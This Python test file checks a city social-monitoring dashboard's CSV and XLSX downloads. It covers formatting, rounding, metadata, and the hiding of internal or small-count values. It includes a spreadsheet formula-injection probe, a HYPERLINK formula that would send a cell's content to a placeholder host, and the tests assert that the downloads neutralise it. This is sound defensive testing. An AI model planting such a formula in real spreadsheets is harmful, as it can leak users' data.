"""The dashboard's downloads, on SQLite and PostgreSQL, read back the way the README tells people to read them.

- They open in Excel as text, never as formulas: an area name or unit from a delivered file that starts like a
  formula (``= + - @``) is prefixed with ``'`` in the CSV and in the XLSX (issue 10's probe); numbers are not.
- German CSV: ``;``, decimal comma, UTF-8 with BOM, German headers; English: ``,`` and ``.``; values rounded to
  the catalogue's decimals (in change mode too) and equal to the read API's values for the same view.
- The XLSX has a data sheet with numeric cells and a metadata sheet; "download everything" holds every indicator
  the audience may see (internal ones only for logged-in roles), with disclosure control as on screen.
"""

from __future__ import annotations

import base64
import io
import json
import math
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from callbacks import dashboard
from layouts import ids
from sozialmonitor import downloads, readapi
from sozialmonitor.access import PUBLIC, Audience
from sozialmonitor.service import Service
from sozialmonitor.store import Store
from sozialmonitor.view import parse_query
from tests.integration.conftest import CliRunner
from tests.integration.musterstadt import load_city

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A2,"Klick")'
PLANNER = Audience("planner", "p")
NOW = datetime(2026, 11, 21, 9, 30, tzinfo=UTC)
GERMAN = {"sep": ";", "decimal": ",", "encoding": "utf-8-sig", "dtype": {"Schlüssel": str, "Stand": str}}
ENGLISH = {"sep": ",", "decimal": ".", "encoding": "utf-8-sig", "dtype": {"Code": str, "Period": str}}


def _square(x: float) -> dict[str, object]:
    return {"type": "Polygon", "coordinates": [[[x, 52.0], [x + 0.01, 52.0], [x + 0.01, 52.01], [x, 52.01],
                                                [x, 52.0]]]}


def _areas(tmp_path: Path, names: dict[str, str]) -> Path:
    path = tmp_path / "synthetic_download_areas.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"id": code, "name": name}, "geometry": _square(13.0 + 0.02 * i)}
        for i, (code, name) in enumerate(names.items())]}), encoding="utf-8")
    return path


def _load(cli: CliRunner, tmp_path: Path) -> None:
    catalogue = tmp_path / "synthetic_hostile_catalogue.csv"
    catalogue.write_text("id;name_de;name_en;topic;unit;polarity;aggregation;source;licence\n"
                         "wert;Wert;Value;Test;=1+1;neutral;sum;Synthetische Testdaten;keine\n", encoding="utf-8")
    values = tmp_path / "synthetic_hostile_values.csv"
    values.write_text("area_id,indicator_id,period,value\nA,wert,2024,5\nB,wert,2024,7\n", encoding="utf-8")
    assert cli("import-catalogue", catalogue).code == 0
    assert cli("import-areas", _areas(tmp_path, {"A": HOSTILE, "B": "+Nord"}), "--frame", "probe", "--level",
               "gebiet", "--id-col", "id", "--name-col", "name").code == 0
    result = cli("import-indicators", values, "--frame", "probe", "--level", "gebiet")
    assert result.code == 0, result.err


def _content(answer: dict[str, object]) -> bytes:
    file = answer["file"]
    assert isinstance(file, dict)
    return base64.b64decode(file["content"]) if file.get("base64") else str(file["content"]).encode("utf-8")


def test_downloads_never_carry_a_formula(cli: CliRunner, store: Store, tmp_path: Path) -> None:
    _load(cli, tmp_path)
    service = Service(store)
    query = "frame=probe&level=gebiet&ind=wert&period=2024"
    csv = pd.read_csv(io.BytesIO(_content(dashboard.download(service, ids.DOWNLOAD_CSV, query))), dtype=str,
                      sep=";", encoding="utf-8-sig")
    assert sorted(csv["Gebiet"]) == sorted(["'" + HOSTILE, "'+Nord"])
    assert set(csv["Einheit"]) == {"'=1+1"}
    for trigger in (ids.DOWNLOAD_XLSX, ids.DOWNLOAD_ALL):
        book = openpyxl.load_workbook(io.BytesIO(_content(dashboard.download(service, trigger, query))))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere in the workbook
        assert {c.value for c in cells} >= {"'" + HOSTILE, "'+Nord", "'=1+1"}


# --- a synthetic city: a share with float noise in change mode, a small count, an internal indicator -----------

CATALOGUE = "\n".join([
    "id;name_de;name_en;topic;unit;unit_en;polarity;aggregation;visibility;min_count;decimals;source;licence;"
    "definition_de;definition_en",
    "quote;Quote;Rate;Test;%;%;neutral;none;public;;1;Synthetische Quelle;CC BY 4.0;Anteil in Prozent;Share in percent",
    "einwohner;Einwohner;Inhabitants;Test;Personen;persons;neutral;sum;public;3;0;Synthetische Quelle;CC BY 4.0;"
    "Einwohner;Inhabitants",
    "intern;Interner Saldo;Internal balance;Test;je 100 Einw.;per 100 inh.;neutral;none;internal;;2;"
    "Synthetische Quelle;intern;Nur intern;Internal only", ""])
VALUES = """area_id,indicator_id,period,value
01,quote,2023,10.1
02,quote,2023,8.9
03,quote,2023,20.25
04,quote,2023,5
01,quote,2024,4.4
02,quote,2024,8.9
03,quote,2024,21.05
01,einwohner,2024,100
02,einwohner,2024,2
03,einwohner,2024,250
04,einwohner,2024,40
01,intern,2024,12.345
02,intern,2024,-3.21
"""
CITY = "frame=stadt&level=gebiet&ind=quote&period=2024"
CHANGE = CITY + "&mode=change&base=2023"


@pytest.fixture
def city(cli: CliRunner, store: Store, tmp_path: Path) -> Service:
    (tmp_path / "synthetic_download_catalogue.csv").write_text(CATALOGUE, encoding="utf-8")
    (tmp_path / "synthetic_download_values.csv").write_text(VALUES, encoding="utf-8")
    assert cli("import-catalogue", tmp_path / "synthetic_download_catalogue.csv").code == 0
    areas = _areas(tmp_path, {"01": "Nord", "02": "-Ost", "03": "Süd", "04": "West"})
    assert cli("import-areas", areas, "--frame", "stadt", "--level", "gebiet", "--id-col", "id",
               "--name-col", "name", "--level-name", "Gebiet").code == 0
    result = cli("import-indicators", tmp_path / "synthetic_download_values.csv", "--frame", "stadt",
                 "--level", "gebiet")
    assert result.code == 0, result.err
    return Service(store)


def _file(service: Service, query: str, kind: str, audience: Audience = PUBLIC) -> downloads.File:
    file = downloads.download(service, parse_query(query)[0], audience, kind, site="https://monitor.example/",
                              now=NOW)
    assert file is not None
    return file


def _answer(service: Service, indicator: str, period: str, audience: Audience = PUBLIC) -> tuple[
        dict[str, object], ...]:
    return readapi.values(service, "stadt", "gebiet", indicator, audience, period=period).rows


def _api(service: Service, indicator: str, period: str, audience: Audience = PUBLIC) -> dict[str, float | None]:
    """The read API's values of the same view, rounded to the catalogue's decimals."""
    decimals = service.specs()[indicator].decimals
    return {str(r["area_id"]): downloads.rounded(r["value"], decimals)  # type: ignore[arg-type]
            for r in _answer(service, indicator, period, audience)}


def _csv(file: downloads.File, options: dict[str, object]) -> pd.DataFrame:
    assert isinstance(file.content, str)
    raw = file.content.encode("utf-8")
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM makes Excel read UTF-8
    return pd.read_csv(io.BytesIO(raw), **options)  # type: ignore[arg-type]


def _same(a: float | None, b: float | None) -> bool:
    return ((a is None or a != a) and (b is None or b != b)) or a == b


def test_german_csv_equals_the_read_api(city: Service) -> None:
    file = _file(city, CITY, "csv")
    assert file.filename == "stadt_gebiet_quote_2024.csv"
    table = _csv(file, GERMAN)
    assert list(table.columns) == ["Schlüssel", "Gebiet", "Indikator-ID", "Indikator", "Stand", "Wert", "Einheit",
                                   "Status", "Status-Code", "Klasse", "Klassenbereich"]
    api = _api(city, "quote", "2024")
    assert list(table["Schlüssel"]) == list(api) == ["01", "02", "03", "04"]
    assert all(_same(v, api[k]) for k, v in zip(table["Schlüssel"], table["Wert"], strict=True))
    assert table["Wert"].dtype == "float64" and table.loc[1, "Wert"] == 8.9  # not a date
    assert table["Gebiet"].tolist() == ["Nord", "'-Ost", "Süd", "West"]
    assert table.loc[3, "Status"] == "fehlt" and table.loc[3, "Status-Code"] == "missing"
    assert math.isnan(table.loc[3, "Wert"]) and ";;" in file.content.splitlines()[4]  # missing is empty, not 0
    assert table["Stand"].tolist() == ["2024"] * 4


def test_change_mode_has_no_float_noise_and_negative_numbers_stay_numbers(city: Service) -> None:
    file = _file(city, CHANGE, "csv")
    assert "9999" not in str(file.content) and "0000" not in str(file.content)
    table = _csv(file, GERMAN)
    assert "Veränderung" in table.columns and table["Vergleich mit"].astype(str).tolist() == ["2023"] * 4
    before, after = _api(city, "quote", "2023"), _api(city, "quote", "2024")
    expected = [downloads.rounded(after[c] - before[c], 1) if after[c] is not None and before[c] is not None
                else None for c in table["Schlüssel"]]
    assert table["Veränderung"].tolist()[:3] == [-5.7, 0.0, 0.8] == expected[:3]
    assert table["Veränderung"].dtype == "float64"
    assert "01;Nord;quote;Quote;2024;2023;-5,7;Prozentpunkte" in file.content


def test_english_csv(city: Service) -> None:
    file = _file(city, CITY + "&lang=en", "csv")
    table = _csv(file, ENGLISH)
    assert list(table.columns) == ["Code", "Area", "Indicator ID", "Indicator", "Period", "Value", "Unit", "Status",
                                   "Status code", "Class", "Class range"]
    assert table["Value"].tolist()[:3] == [4.4, 8.9, 21.1]  # 21.05 rounds half away from zero, as on screen
    assert table["Indicator"].tolist() == ["Rate"] * 4 and table.loc[3, "Status"] == "missing"
    assert "02,'-Ost,quote,Rate,2024,8.9,%,valid,ok" in str(file.content)


def _sheet(book: openpyxl.Workbook, name: str) -> list[list[object]]:
    return [[c.value for c in row] for row in book[name].iter_rows()]


def _metadata(book: openpyxl.Workbook, name: str) -> dict[str, object]:
    return {str(k): v for k, v in _sheet(book, name)[1:]}


def test_xlsx_of_the_view_has_numbers_and_metadata(city: Service) -> None:
    file = _file(city, CHANGE, "xlsx")
    assert file.filename == "stadt_gebiet_quote_2023_bis_2024.xlsx"
    assert isinstance(file.content, bytes)
    book = openpyxl.load_workbook(io.BytesIO(file.content))
    assert book.sheetnames == ["Daten", "Metadaten"]
    data = book["Daten"]
    header = [c.value for c in data[1]]
    value = data.cell(row=2, column=header.index("Veränderung") + 1)
    assert value.value == -5.7 and value.data_type == "n" and value.number_format == "#,##0.0"
    back = pd.read_excel(io.BytesIO(file.content), sheet_name="Daten", dtype={"Schlüssel": str, "Stand": str})
    csv = _csv(_file(city, CHANGE, "csv"), GERMAN)
    pd.testing.assert_frame_equal(back, csv, check_dtype=False)  # the same table in both files
    meta = _metadata(book, "Metadaten")
    assert meta["Indikator"] == "Quote" and meta["Indikator-ID"] == "quote"
    assert meta["Einheit"] == "Prozentpunkte" and meta["Definition"] == "Anteil in Prozent"
    assert meta["Stand"] == "2024" and meta["Darstellung"] == "Veränderung (Differenz) gegenüber 2023"
    assert str(meta["Klassifizierung"]).startswith("Quantile, ") and "Klasse 1" in meta
    assert meta["Quelle"] == "Synthetische Quelle" and meta["Lizenz"] == "CC BY 4.0"
    assert datetime.fromisoformat(str(meta["Erstellt am"])) == NOW
    link = str(meta["Link zur Ansicht"])
    assert link.startswith("https://monitor.example/?") and parse_query(link.split("?", 1)[1])[0] == \
        city.view(parse_query(CHANGE)[0]).state


def test_english_xlsx_metadata(city: Service) -> None:
    book = openpyxl.load_workbook(io.BytesIO(bytes(_file(city, CITY + "&lang=en", "xlsx").content)))  # type: ignore
    assert book.sheetnames == ["Data", "Metadata"]
    meta = _metadata(book, "Metadata")
    assert meta["Indicator"] == "Rate" and meta["Display"] == "Value" and meta["Licence"] == "CC BY 4.0"
    assert meta["Definition"] == "Share in percent" and meta["Period"] == "2024"


def _everything(service: Service, audience: Audience, lang: str = "de") -> openpyxl.Workbook:
    file = _file(service, CITY + ("&lang=en" if lang == "en" else ""), "all", audience)
    assert file.filename == ("stadt_gebiet_alle_Indikatoren.xlsx" if lang == "de" else
                             "stadt_gebiet_all_indicators.xlsx")
    with zipfile.ZipFile(io.BytesIO(bytes(file.content))) as archive:  # type: ignore[arg-type]
        text = " ".join(archive.read(n).decode("utf-8") for n in archive.namelist())
    book = openpyxl.load_workbook(io.BytesIO(bytes(file.content)))  # type: ignore[arg-type]
    book.text = text  # type: ignore[attr-defined]  # every string of the file, for leak checks
    return book


def test_everything_for_the_public_holds_no_internal_indicator(city: Service) -> None:
    book = _everything(city, PUBLIC)
    assert book.sheetnames == ["Daten", "Metadaten", "Info"]
    rows = _sheet(book, "Daten")
    assert rows[0] == ["Schlüssel", "Gebiet", "Indikator-ID", "Indikator", "Stand", "Wert", "Einheit", "Status",
                       "Status-Code"]
    assert {r[2] for r in rows[1:]} == {"quote", "einwohner"}
    assert "intern" not in book.text and "Interner Saldo" not in book.text and "12.35" not in book.text  # type: ignore
    meta = _sheet(book, "Metadaten")
    assert meta[0][:5] == ["Indikator-ID", "Indikator", "Einheit", "Definition", "Zeitpunkte"]
    assert [r[0] for r in meta[1:]] == ["einwohner", "quote"]
    assert {"Quelle", "Lizenz"} <= set(meta[0])
    assert _metadata(book, "Info")["Enthält"] == "alle öffentlichen Indikatoren dieser Ebene"


def test_everything_for_a_planner_holds_the_internal_indicator(city: Service) -> None:
    book = _everything(city, PLANNER, "en")
    rows = _sheet(book, "Data")
    assert {r[2] for r in rows[1:]} == {"quote", "einwohner", "intern"}
    internal = {r[0]: r[5] for r in rows[1:] if r[2] == "intern"}
    assert internal["01"] == 12.35 and internal["02"] == -3.21  # rounded half away; negative stays a number
    meta = {r[0]: r for r in _sheet(book, "Metadata")[1:]}
    assert meta["intern"][6] == "internal" and meta["quote"][6] == "public"


@pytest.mark.parametrize("audience", [PUBLIC, PLANNER], ids=["public", "planner"])
def test_everything_equals_the_read_api_with_disclosure_control(city: Service, audience: Audience) -> None:
    rows = _sheet(_everything(city, audience), "Daten")[1:]
    assert len(rows) == 4 * (3 + (1 if audience.internal else 0))  # every area × indicator × period
    for area, _, indicator, _, period, value, _, _, status in rows:
        assert _same(value, _api(city, str(indicator), str(period), audience)[str(area)]), (indicator, period, area)
        assert status == {r["area_id"]: r["status"] for r in _answer(city, str(indicator), str(period), audience)}[area]
    secret = [r for r in rows if r[2] == "einwohner" and r[0] == "02"]
    assert secret == [["02", "'-Ost", "einwohner", "Einwohner", "2024", None, "Personen", "gesperrt (Geheimhaltung)",
                       "secret"]]  # 2 < min_count: no value, whoever asks
    shown = {r[0]: r[8] for r in rows if r[2] == "einwohner"}
    assert list(shown.values()).count("secret") >= 2  # and a second cell, or the frame total would give it away


def test_the_callback_answers_each_button(city: Service) -> None:
    csv = dashboard.download(city, ids.DOWNLOAD_CSV, CITY)["file"]
    assert csv["filename"].endswith(".csv") and csv["content"].startswith("\ufeffSchlüssel;")
    assert not csv.get("base64")
    for trigger, suffix in ((ids.DOWNLOAD_XLSX, ".xlsx"), (ids.DOWNLOAD_ALL, "_alle_Indikatoren.xlsx")):
        file = dashboard.download(city, trigger, CITY)["file"]
        assert file["filename"].endswith(suffix) and file["base64"]
        assert file["type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_an_internal_level_gives_the_public_nothing_of_it(cli: CliRunner, store: Store) -> None:
    load_city(cli)  # Musterstadt: the level sozialraum and the indicator sgb2_quote are internal
    service = Service(store)
    internal = parse_query("frame=muster&level=sozialraum&ind=sgb2_quote&period=2023-12-31")[0]
    table, _, catalogue = downloads.everything_tables(service, internal, PUBLIC)
    assert table.empty and catalogue.empty  # even when a caller passes the internal level itself
    file = downloads.download(service, internal, PUBLIC, "all")  # resolved like the page: the public level
    assert file is not None and file.filename == "muster_bezirk_alle_Indikatoren.xlsx"
    with zipfile.ZipFile(io.BytesIO(bytes(file.content))) as archive:  # type: ignore[arg-type]
        text = " ".join(archive.read(n).decode("utf-8") for n in archive.namelist())
    assert [s for s in ("SGB-II", "sgb2_quote", "SR-0101", "Am Markt", "12.5", "8.25") if s in text] == []
    planner = downloads.download(service, internal, PLANNER, "all")
    assert planner is not None and planner.filename == "muster_sozialraum_alle_Indikatoren.xlsx"
